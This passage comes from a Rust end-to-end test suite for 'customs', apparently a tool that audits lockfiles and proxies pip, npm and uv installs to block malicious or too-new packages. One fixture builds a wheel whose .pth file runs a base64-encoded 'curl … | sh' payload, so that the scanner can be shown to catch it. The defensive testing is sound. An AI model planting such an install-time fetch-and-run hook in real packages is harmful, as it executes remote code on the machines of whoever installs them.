            .unwrap()
            .iter()
            .any(|f| f["rule"] == "lockfile-hash-mismatch"),
        "{p:#}"
    );

    // No hash at all, with a policy that requires them.
    std::fs::write(project.join("requirements.txt"), "pyfetch==1.0\n").unwrap();
    std::fs::write(project.join("customs.toml"), "require_hashes = true\n").unwrap();
    let out = run(dir.path(), &["audit", "py", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(1));
    let r = json_of(&out);
    assert!(
        by_name(&r, "pyfetch")["policy"]["reasons"][0]
            .as_str()
            .unwrap()
            .contains("requires hashes")
    );
    std::fs::remove_file(project.join("customs.toml")).unwrap();

    // A record imported into the store makes a version malicious without a scan.
    let osv = dir.path().join("MAL-2099-7.json");
    std::fs::write(&osv, r#"{"id": "MAL-2099-7", "summary": "test record", "affected": [{"package": {"ecosystem": "PyPI", "name": "pyfetch"}, "versions": ["1.0"]}]}"#).unwrap();
    let out = run(dir.path(), &["db", "import", osv.to_str().unwrap()], &env);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout(&out).contains("imported 1 records (1 malicious"),
        "{}",
        stdout(&out)
    );
    let out = run(dir.path(), &["audit", "py", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(1));
    let r = json_of(&out);
    assert_eq!(
        by_name(&r, "pyfetch")["findings"][0]["rule"],
        "known-malicious"
    );

    // A broken lockfile is an error with file and line.
    std::fs::write(
        project.join("requirements.txt"),
        "pyfetch==1.0\nnot a requirement at all\n",
    )
    .unwrap();
    let out = run(dir.path(), &["audit", "py"], &env);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stdout(&out).contains("requirements.txt:2"),
        "{}",
        stdout(&out)
    );
}

/// Every lockfile format through the real binary, offline: the known-malicious entry is
/// blocked at its lockfile line (no index needed), and the rest are said to be unchecked.
#[test]
fn audit_every_lockfile_format_offline() {
    let dir = tempfile::tempdir().unwrap();
    let mut env = store_and_cache(dir.path());
    env.extend([
        (
            "npm_config_registry",
            "http://127.0.0.1:9/unused".to_owned(),
        ),
        ("PIP_INDEX_URL", "http://127.0.0.1:9/unused".to_owned()),
    ]);
    let formats = root().join("tests/lockfiles");
    let mut seen = 0;
    for entry in std::fs::read_dir(&formats).unwrap() {
        let project = entry.unwrap().path();
        let name = project.file_name().unwrap().to_string_lossy().into_owned();
        let out = run(
            dir.path(),
            &[
                "audit",
                project.to_str().unwrap(),
                "--offline",
                "--format",
                "json",
            ],
            &env,
        );
        assert_eq!(
            out.status.code(),
            Some(1),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let r = json_of(&out);
        let bad = if r["packages"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["ecosystem"] == "npm")
        {
            "event-stream"
        } else {
            "colourama"
        };
        let p = by_name(&r, bad);
        assert_eq!(p["policy"]["decision"], "block", "{name}");
        assert_eq!(p["findings"][0]["rule"], "known-malicious", "{name}");
        let at = &p["locations"][0];
        let text = std::fs::read_to_string(at["path"].as_str().unwrap()).unwrap();
        let line = text
            .lines()
            .nth(at["line"].as_u64().unwrap() as usize - 1)
            .unwrap();
        assert!(
            line.contains(bad),
            "{name}: the location points at {line:?}"
        );
        let unchecked = r["packages"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|p| p["verdict"] == "unchecked")
            .count();
        assert_eq!(unchecked, 2, "{name}: {r:#}");
        seen += 1;
    }
    assert_eq!(seen, 13, "every format's fixture project");
}

/// A wheel with a consistent RECORD.
fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    let info = format!("{name}-{version}.dist-info");
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, d)| ((*p).to_owned(), d.to_vec()))
        .collect();
    all.push((
        format!("{info}/METADATA"),
        format!(
            "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: wheels for tests\n"
        )
        .into_bytes(),
    ));
    all.push((
        format!("{info}/WHEEL"),
        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
    ));
    let mut record = String::new();
    for (p, d) in &all {
        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    all.push((format!("{info}/RECORD"), record.into_bytes()));
    common::zip(&all)
}

/// PyPI `pywheel`: 1.0 clean, 1.1 with a `.pth` that runs a decoded payload, 1.2 clean
/// but published a day ago.
fn pywheel_registry(server: &Loopback) {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let clean: &[u8] = b"def hello():\n    return 'hi'\n";
    let payload = base64::engine::general_purpose::STANDARD
        .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
    let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
    let mut files = Vec::new();
    for (version, at, pth) in [
        ("1.0", T0 - 60 * DAY, None),
        ("1.1", T0 - 30 * DAY, Some(pth.as_bytes())),
        ("1.2", now - DAY, None),
    ] {
        let mut members: Vec<(&str, &[u8])> = vec![("pywheel/__init__.py", clean)];
        if let Some(p) = pth {
            members.push(("pywheel_init.pth", p));
        }
        let body = wheel("pywheel", version, &members);
        let file = format!("pywheel-{version}-py3-none-any.whl");
        server.route(
            &format!("/files/{file}"),
            "application/octet-stream",
            body.clone(),
        );
        let metadata =
            format!("Metadata-Version: 2.1\nName: pywheel\nVersion: {version}\n").into_bytes();
        server.route(
            &format!("/files/{file}.metadata"),
            "text/plain",
            metadata.clone(),
        );
        files.push(json!({"filename": file, "url": format!("/files/{file}"), "hashes": {"sha256": hex::encode(Sha256::digest(&body))}, "upload-time": iso(at), "requires-python": ">=3.8", "core-metadata": {"sha256": hex::encode(Sha256::digest(&metadata))}}));
    }
    let page = json!({"meta": {"api-version": "1.1"}, "name": "pywheel", "files": files});
    server.route(
        "/simple/pywheel/",
        "application/vnd.pypi.simple.v1+json",
        serde_json::to_vec(&page).unwrap(),
    );
}

/// `ms`, the clean dependency of `webfetch`.
fn ms_package(server: &Loopback) {
    npm_package_at(
        server,
        "ms",
        "2.1.3",
        900 * DAY,
        json!({}),
        &[(
            "index.js",
            b"module.exports = (s) => parseInt(s, 10) * 1000;\n",
        )],
    );
}

/// A `customs proxy` process of this test, stopped (by its pid) when dropped.
struct ProxyProcess {
    child: std::process::Child,
    url: String,
}

impl Drop for ProxyProcess {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_proxy(dir: &Path, args: &[&str], env: &[(&'static str, String)]) -> ProxyProcess {
    use std::io::BufRead;
    let home = dir.join("home");
    std::fs::create_dir_all(&home).unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_customs"))
        .arg("proxy")
        .args(["--listen", "127.0.0.1:0"])
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &home)
        .env("PIP_CONFIG_FILE", "/dev/null")
        .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let url = line.trim().to_owned();
    assert!(
        url.starts_with("http://127.0.0.1:"),
        "first line is the address: {line:?}"
    );
    let p = ProxyProcess { child, url };
    let health = fetch_url(&p.url, "/-/health");
    assert_eq!(health.0, 200);
    p
}

/// GET from a server (the test's own client, for checks only): status and body.
fn fetch_url(base: &str, path: &str) -> (u16, Vec<u8>) {
    use std::io::{Read, Write};
    let addr = base.trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    write!(s, "GET {path} HTTP/1.1\r\nHost: {addr}\r\nAccept: application/vnd.pypi.simple.v1+json\r\nConnection: close\r\n\r\n").unwrap();
    let mut all = Vec::new();
    s.read_to_end(&mut all).unwrap();
    let split = all.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    let head = String::from_utf8_lossy(&all[..split]).into_owned();
    let status = head.split_whitespace().nth(1).unwrap().parse().unwrap();
    (status, all[split + 4..].to_vec())
}

/// pip through the proxy, with nothing of this machine's pip configuration.
fn pip_download(dir: &Path, proxy: &str, requirement: &str) -> std::process::Output {
    std::process::Command::new("python3")
        .args([
            "-m",
            "pip",
            "download",
            "--no-deps",
            "--no-cache-dir",
            "--disable-pip-version-check",
            "-d",
        ])
        .arg(dir.join("downloads"))
        .args(["--index-url", &format!("{proxy}/pypi/simple/"), requirement])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir.join("home"))
        .env("PIP_CONFIG_FILE", "/dev/null")
        .output()
        .unwrap()
}

#[test]
fn proxy_with_pip() {
    let server = Loopback::start();
    pywheel_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/simple", server.url);
    let proxy = start_proxy(
        dir.path(),
        &["--pypi-upstream", &upstream, "--min-release-age", "7d"],
        &env,
    );

    let ok = pip_download(dir.path(), &proxy.url, "pywheel==1.0");
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(
        dir.path()
            .join("downloads/pywheel-1.0-py3-none-any.whl")
            .is_file()
    );

    let blocked = pip_download(dir.path(), &proxy.url, "pywheel==1.1");
    assert!(!blocked.status.success());
    let err = String::from_utf8_lossy(&blocked.stderr);
    assert!(
        err.contains("403") && err.contains("customs blocked pywheel 1.1"),
        "pip shows the reason phrase: {err}"
    );
    assert!(
        !dir.path()
            .join("downloads/pywheel-1.1-py3-none-any.whl")
            .exists()
    );

    // The cooldown holds 1.2 back: it is listed as yanked with customs' reason, so pip
    // takes it only when asked for exactly it, and then shows why it is refused.
    let young = pip_download(dir.path(), &proxy.url, "pywheel==1.2");
    assert!(!young.status.success());
    let err = String::from_utf8_lossy(&young.stderr);
    assert!(
        err.contains("customs blocked pywheel 1.2") && err.contains("minimum release age"),
        "pip names customs and the reason: {err}"
    );
    let (status, page) = fetch_url(&proxy.url, "/pypi/simple/pywheel/");
    assert_eq!(status, 200);
    let page: Value = serde_json::from_slice(&page).unwrap();
    assert_eq!(page["versions"], json!(["1.0", "1.1", "1.2"]));
    assert!(
        page["files"][2]["yanked"]
            .as_str()
            .unwrap()
            .contains("customs holds this release back"),
        "{page:#}"
    );
    assert!(
        page["files"][0]["url"]
            .as_str()
            .unwrap()
            .ends_with("/pypi/files/pywheel/pywheel-1.0-py3-none-any.whl")
    );
    assert_eq!(page["files"][0]["requires-python"], ">=3.8");
    // PEP 658: the metadata is announced and served by the proxy.
    assert!(
        page["files"][0]["core-metadata"]["sha256"].is_string(),
        "{page:#}"
    );
    let (status, metadata) = fetch_url(
        &proxy.url,
        "/pypi/files/pywheel/pywheel-1.0-py3-none-any.whl.metadata",
    );
    assert_eq!(status, 200);
    assert!(String::from_utf8_lossy(&metadata).contains("Version: 1.0"));

    // Each artifact is downloaded and scanned once.
    let before = server.count("/files/pywheel-1.1-py3-none-any.whl");
    let again = pip_download(dir.path(), &proxy.url, "pywheel==1.1");
    assert!(!again.status.success());
    assert_eq!(
        server.count("/files/pywheel-1.1-py3-none-any.whl"),
        before,
        "the verdict and the bytes are cached"
    );
}

#[test]
fn proxy_with_npm() {
    let server = Loopback::start();
    npm_registry(&server);
    ms_package(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/npm/", server.url);
    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
    let npm = |project: &str, spec: &str| {
        let p = dir.path().join(project);
        std::fs::create_dir_all(&p).unwrap();
        std::fs::write(
            p.join("package.json"),
            "{\"name\": \"app\", \"version\": \"1.0.0\"}",
        )
        .unwrap();
        std::process::Command::new("npm")
            .args([
                "install",
                spec,
                "--no-audit",
                "--no-fund",
                "--ignore-scripts",
                "--registry",
            ])
            .arg(format!("{}/npm/", proxy.url))
            .arg("--cache")
            .arg(dir.path().join("npm-cache"))
            .current_dir(&p)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", dir.path().join("home"))
            .env("npm_config_userconfig", dir.path().join("no-npmrc"))
            .output()
            .unwrap()
    };
    let ok = npm("good", "webfetch@1.0.0");
    assert!(
        ok.status.success(),
        "{}{}",
        stdout(&ok),
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(
        dir.path()
            .join("good/node_modules/webfetch/index.js")
            .is_file()
    );
    assert!(dir.path().join("good/node_modules/ms/index.js").is_file());

    let bad = npm("bad", "webfetch@1.0.1");
    assert!(!bad.status.success());
    let err = String::from_utf8_lossy(&bad.stderr).into_owned() + &stdout(&bad);
    assert!(
        err.contains("customs blocked"),
        "npm shows the JSON error: {err}"
    );
    assert!(
        !dir.path()
            .join("bad/node_modules/crypto-helper-js")
            .exists()
    );

    // The document the proxy serves points tarballs at itself.
    let (status, doc) = fetch_url(&proxy.url, "/npm/webfetch");
    assert_eq!(status, 200);
    let doc: Value = serde_json::from_slice(&doc).unwrap();
    assert!(
        doc["versions"]["1.0.0"]["dist"]["tarball"]
            .as_str()
            .unwrap()
            .starts_with(&proxy.url)
    );
}

#[test]
fn proxy_filters_and_moves_latest() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.sqlite3");
    let env = vec![
        ("CUSTOMS_STORE", store.display().to_string()),
        (
            "CUSTOMS_CACHE_DIR",
            dir.path().join("cache").display().to_string(),
        ),
    ];
    // A record that names the latest release: it is deprecated with the reason, and
    // `latest` moves.
    let osv = dir.path().join("osv.json");
    std::fs::write(&osv, r#"{"id": "MAL-2099-9", "summary": "hijacked", "affected": [{"package": {"ecosystem": "npm", "name": "webfetch"}, "versions": ["1.0.1"]}]}"#).unwrap();
    assert!(
        run(dir.path(), &["db", "import", osv.to_str().unwrap()], &env)
            .status
            .success()
    );
    let upstream = format!("{}/npm/", server.url);
    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
    let (_, doc) = fetch_url(&proxy.url, "/npm/webfetch");
    let doc: Value = serde_json::from_slice(&doc).unwrap();
    assert!(
        doc["versions"]["1.0.1"]["deprecated"]
            .as_str()
            .unwrap()
            .contains("MAL-2099-9")
    );
    assert_eq!(doc["dist-tags"]["latest"], "1.0.0");
    let (status, body) = fetch_url(&proxy.url, "/npm/webfetch/-/webfetch-1.0.1.tgz");
    assert_eq!(
        status, 403,
        "asking for the file directly (a lockfile) is refused too"
    );
    assert!(String::from_utf8_lossy(&body).contains("MAL-2099-9"));
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.1.tgz"),
        0,
        "known malware is never downloaded"
    );

    // An upstream that is down: a clear 502 naming it.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = format!("http://{}/npm/", closed.local_addr().unwrap());
    drop(closed);
    let down = start_proxy(dir.path(), &["--npm-upstream", &dead], &env);
    let (status, body) = fetch_url(&down.url, "/npm/anything");
    assert_eq!(status, 502);
    assert!(
        String::from_utf8_lossy(&body).contains(dead.trim_end_matches('/')),
        "{}",
        String::from_utf8_lossy(&body)
    );
}

#[test]
fn proxy_refuses_swapped_files_keeps_serving_when_upstream_is_down_and_needs_its_token() {
    let server = Loopback::start();
    npm_registry(&server);
    ms_package(&server);
    // A document whose integrity does not match the tarball served.
    let doc = json!({
        "name": "swapped", "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {"name": "swapped", "version": "1.0.0", "dist": {"tarball": format!("{}/npm/ms/-/ms-2.1.3.tgz", server.url), "integrity": sri(b"other bytes")}}},
        "time": {"1.0.0": iso(T0)}
    });
    server.route(
        "/npm/swapped",
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/npm/", server.url);
    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
    // Bytes other than those the index lists: refused, and nothing stored about them.
    let (status, body) = fetch_url(&proxy.url, "/npm/swapped/-/ms-2.1.3.tgz");
    assert_eq!(status, 502, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("does not match the index's sha512"));

    // Scanned once, then the upstream goes down: the scanned package is still served,
    // an unseen one fails with a clear error.
    let (status, _) = fetch_url(&proxy.url, "/npm/ms");
    assert_eq!(status, 200);
    let (status, tgz) = fetch_url(&proxy.url, "/npm/ms/-/ms-2.1.3.tgz");
    assert_eq!(status, 200);
    assert_eq!(sri(&tgz), integrity_of(&server, "ms", "2.1.3"));
    server.down.store(true, std::sync::atomic::Ordering::SeqCst);
    let (status, _) = fetch_url(&proxy.url, "/npm/ms");
    assert_eq!(
        status, 200,
        "the last document is served while the upstream is down"
    );
    let (status, again) = fetch_url(&proxy.url, "/npm/ms/-/ms-2.1.3.tgz");
    assert_eq!((status, again), (200, tgz));
    let (status, body) = fetch_url(&proxy.url, "/npm/webfetch");
    assert_eq!(status, 502);
    assert!(
        String::from_utf8_lossy(&body).contains("upstream"),
        "{}",
        String::from_utf8_lossy(&body)
    );
    server
        .down
        .store(false, std::sync::atomic::Ordering::SeqCst);

    // Beyond loopback only with a token; with one, requests must carry it.
    let out = run(
        dir.path(),
        &[
            "proxy",
            "--listen",
            "0.0.0.0:0",
            "--npm-upstream",
            &upstream,
        ],
        &env,
    );
    assert_ne!(out.status.code(), Some(0));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("token"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let guarded = start_proxy(
        dir.path(),
        &["--npm-upstream", &upstream, "--token", "s3cret"],
        &env,
    );
    let (status, _) = fetch_url(&guarded.url, "/npm/ms");
    assert_eq!(status, 401);
    let addr = guarded.url.trim_start_matches("http://");
    let with_token = {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        write!(s, "GET /npm/ms HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer s3cret\r\nConnection: close\r\n\r\n").unwrap();
        let mut all = String::new();
        s.read_to_string(&mut all).unwrap();
        all
    };
    assert!(with_token.starts_with("HTTP/1.1 200"), "{with_token}");
}

#[test]
fn customs_run_points_pip_at_its_proxy() {
    let server = Loopback::start();
    pywheel_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = vec![
        ("PIP_INDEX_URL", format!("{}/simple/", server.url)),
        (
            "CUSTOMS_STORE",
            dir.path().join("store.sqlite3").display().to_string(),
        ),
        (
            "CUSTOMS_CACHE_DIR",
            dir.path().join("cache").display().to_string(),
        ),
    ];
    let dest = dir.path().join("dl");
    let pip = |req: &str| {
        run(
            dir.path(),
            &[
                "run",
                "--",
                "python3",
                "-m",
                "pip",
                "download",
                "--no-deps",
                "--no-cache-dir",
                "--disable-pip-version-check",
                "-d",
                dest.to_str().unwrap(),
                req,
            ],
            &env,
        )
    };
    let ok = pip("pywheel==1.0");
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(dest.join("pywheel-1.0-py3-none-any.whl").is_file());
    let blocked = pip("pywheel==1.1");
    assert_ne!(
        blocked.status.code(),
        Some(0),
        "pip's own exit code comes back"
    );
    assert!(String::from_utf8_lossy(&blocked.stderr).contains("customs blocked pywheel 1.1"));
    assert!(
        server.count("/simple/pywheel/") >= 2,
        "the proxy asked the configured upstream"
    );
}

/// uv, installed by test.sh into target/tools (or named by CUSTOMS_TEST_UV).
fn uv() -> std::path::PathBuf {
    std::env::var_os("CUSTOMS_TEST_UV")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| root().join("target/tools/bin/uv"))
}

#[test]
fn proxy_with_uv() {
    let uv = uv();
    assert!(uv.is_file(), "uv is installed by test.sh: {}", uv.display());
    let server = Loopback::start();
    pywheel_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/simple", server.url);
    let proxy = start_proxy(
        dir.path(),
        &["--pypi-upstream", &upstream, "--min-release-age", "7d"],
        &env,
    );
    let install = |spec: &str, target: &str| {
        std::process::Command::new(&uv)
            .args([
                "pip",
                "install",
                "--no-deps",
                "--no-cache",
                "--python",
                "python3",
                "--target",
            ])
            .arg(dir.path().join(target))
            .args(["--index-url", &format!("{}/pypi/simple/", proxy.url), spec])
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", dir.path().join("home"))
            .env("UV_NO_CONFIG", "1")
            .output()
            .unwrap()
    };
    let ok = install("pywheel==1.0", "good");
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(dir.path().join("good/pywheel/__init__.py").is_file());
    let bad = install("pywheel==1.1", "bad");
    assert!(!bad.status.success());
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(
        err.contains("customs blocked pywheel 1.1"),
        "uv shows the reason phrase: {err}"
    );
    // Unpinned: the cooldown hides 1.2, so uv resolves to the newest version left, 1.1,
    // which is refused.
    let unpinned = install("pywheel", "latest");
    assert!(!unpinned.status.success());
    assert!(String::from_utf8_lossy(&unpinned.stderr).contains("pywheel 1.1"));
}

/// Serves `name`'s document with only some of its versions (as a registry looks before a
/// release appears).
fn only_versions(server: &Loopback, name: &str, full: &Value, keep: &[&str]) {
    let mut doc = full.clone();
    for key in ["versions", "time"] {
        if let Some(map) = doc[key].as_object_mut() {
            map.retain(|k, _| {
                keep.contains(&k.as_str()) || !k.starts_with(|c: char| c.is_ascii_digit())
            });
        }
    }
    doc["dist-tags"]["latest"] = json!(keep.last().unwrap());
    server.route(
        &format!("/npm/{name}"),
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
}

#[test]
fn watch_alerts_once_per_hijacked_release() {
    let server = Loopback::start();
    npm_registry(&server);
    let full: Value = serde_json::from_slice(&fetch(&server, "/npm/webfetch")).unwrap();
    only_versions(&server, "webfetch", &full, &["0.9.4", "1.0.0"]);
    let dir = tempfile::tempdir().unwrap();
    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    let jsonl = dir.path().join("alerts.jsonl");
    let hook = format!("{}/hook", server.url);
    // Each run one interval after the one before: every package is due again.
    let watch = || {
        std::thread::sleep(std::time::Duration::from_secs(1));
        run(
            dir.path(),
            &[
                "watch",
                "--package",
                "npm:webfetch",
                "--interval",
                "1s",
                "--once",
                "--alerts-jsonl",
                jsonl.to_str().unwrap(),
                "--webhook",
                &hook,
            ],
            &env,
        )
    };
    // The first poll records what exists.
    let out = watch();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!jsonl.exists() || std::fs::read_to_string(&jsonl).unwrap().is_empty());

    // The attack: two lines released within the hour, by a new account, without
    // provenance; 1.0.1 adds the dropper. One alert each, as JSON lines and webhook POSTs.
    only_versions(
        &server,
        "webfetch",
        &full,
        &["0.9.4", "1.0.0", "0.9.5", "1.0.1"],
    );
    let out = watch();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout(&out).contains("ALERT npm:webfetch 1.0.1"),
        "{}",
        stdout(&out)
    );
    assert!(
        stdout(&out).contains("ALERT npm:webfetch 0.9.5"),
        "{}",
        stdout(&out)
    );
    let lines: Vec<String> = std::fs::read_to_string(&jsonl)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    let alerts: Vec<Value> = lines
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let alert = alerts
        .iter()
        .find(|a| a["version"] == "1.0.1")
        .unwrap()
        .clone();
    assert_eq!(alert["package"], "npm:webfetch");
    assert_eq!(alert["version"], "1.0.1");
    assert_eq!(alert["old"]["version"], "1.0.0");
    assert_eq!(alert["verdict"]["level"], "malicious");
    assert!(alert["detected_at"].as_str().unwrap().ends_with('Z'));
    let messages: Vec<&str> = alert["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert!(
        messages.iter().any(|m| m.contains("crypto-helper-js")),
        "{messages:?}"
    );
    let posts = server.posts.lock().unwrap().clone();
    assert_eq!(posts.len(), 2, "one webhook delivery per alert");
    assert!(posts.iter().all(|(path, _)| path == "/hook"));
    let posted: Vec<Value> = posts
        .iter()
        .map(|(_, b)| serde_json::from_slice(b).unwrap())
        .collect();
    assert!(posted.contains(&alert));

    // A restart neither repeats nor misses.
    let out = watch();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert_eq!(std::fs::read_to_string(&jsonl).unwrap().lines().count(), 2);
}

#[test]
fn watch_own_package_without_its_provenance() {
    let server = Loopback::start();
    let code: &[u8] = b"module.exports = () => 42;\n";
    let mut versions = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    for (version, at, provenance) in [("1.0.0", T0 - 20 * DAY, true), ("1.0.1", T0, false)] {
        let manifest = json!({"name": "ownlib", "version": version, "main": "index.js"});
        let (url, tgz) = npm_version(&server, "ownlib", version, &manifest, &[("index.js", code)]);
        let mut v = json!({"name": "ownlib", "version": version, "dist": {"tarball": url, "integrity": sri(&tgz)}, "_npmUser": {"name": "me"}});
        if provenance {
            v["dist"]["attestations"] = json!({"url": "http://127.0.0.1/att", "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}});
        }
        versions.insert(version.into(), v);
        time.insert(version.into(), json!(iso(at)));
    }
    let full = json!({"name": "ownlib", "dist-tags": {"latest": "1.0.1"}, "versions": versions, "time": time});
    only_versions(&server, "ownlib", &full, &["1.0.0"]);
    let dir = tempfile::tempdir().unwrap();
    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    let list = dir.path().join("watch.txt");
    std::fs::write(&list, "# what we publish\nown npm:ownlib\n").unwrap();
    let watch = || {
        std::thread::sleep(std::time::Duration::from_secs(1));
        run(
            dir.path(),
            &[
                "watch",
                "--watch-list",
                list.to_str().unwrap(),
                "--alert-on",
                "malicious",
                "--interval",
                "1s",
                "--once",
            ],
            &env,
        )
    };
    assert_eq!(watch().status.code(), Some(0));
    only_versions(&server, "ownlib", &full, &["1.0.0", "1.0.1"]);
    let out = watch();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    let text = stdout(&out);
    assert!(
        text.contains("ALERT npm:ownlib 1.0.1") && text.contains("provenance-dropped"),
        "{text}"
    );
}

/// Polling asks with the ETag the registry sent: an unchanged document is a 304, and
/// a changed one is read again.
#[test]
fn conditional_requests_for_polling() {
    let server = Loopback::start();
    npm_registry(&server);
    let config = customs_registry::IndexConfig {
        npm: Some(customs_registry::Located {
            url: format!("{}/npm", server.url),
            source: "test".into(),
        }),
        ..customs_registry::IndexConfig::default()
    };
    let dir = tempfile::tempdir().unwrap();
    let registry =
        customs_registry::Registry::new(config, customs_registry::Cache::new(dir.path())).unwrap();
    let first = registry
        .project_if_changed(customs_ecosystem::Ecosystem::Npm, "webfetch")
        .unwrap();
    assert_eq!(first.map(|p| p.releases.len()), Some(5));
    let second = registry
        .project_if_changed(customs_ecosystem::Ecosystem::Npm, "webfetch")
        .unwrap();
    assert!(second.is_none(), "unchanged: 304");
    assert_eq!(server.count("/npm/webfetch"), 2);
    let full: Value = serde_json::from_slice(&fetch(&server, "/npm/webfetch")).unwrap();
    only_versions(&server, "webfetch", &full, &["1.0.0"]);
    let third = registry
        .project_if_changed(customs_ecosystem::Ecosystem::Npm, "webfetch")
        .unwrap();
    assert_eq!(
        third.map(|p| p.releases.len()),
        Some(1),
        "changed: read again"
    );
}

/// A new, empty database on the test PostgreSQL server that test.sh starts.
fn postgres_database(tag: &str) -> String {
    let url = std::env::var("CUSTOMS_TEST_POSTGRES").expect(
        "CUSTOMS_TEST_POSTGRES names the test PostgreSQL server: run ./test.sh, which starts one",
    );
    let mut client = postgres::Client::connect(&url, postgres::NoTls).unwrap();
    let name = format!(
        "e2e_{tag}_{}_{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos()
    );
    client
        .batch_execute(&format!("CREATE DATABASE {name}"))
        .unwrap();
    let (base, _) = url.rsplit_once('/').unwrap();
    format!("{base}/{name}")
}

/// The page at `url` as headless Chromium (Debian's package) renders it: its DOM.
fn chromium_dom(dir: &Path, url: &str) -> String {
    let chromium = std::env::var_os("CUSTOMS_TEST_CHROMIUM")
        .map_or_else(|| std::path::PathBuf::from("chromium"), Into::into);
    let profile = tempfile::tempdir_in(dir).unwrap();
    let out = std::process::Command::new(&chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--dump-dom",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(url)
        .output()
        .unwrap_or_else(|e| panic!("{} runs (test.sh installs it): {e}", chromium.display()));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

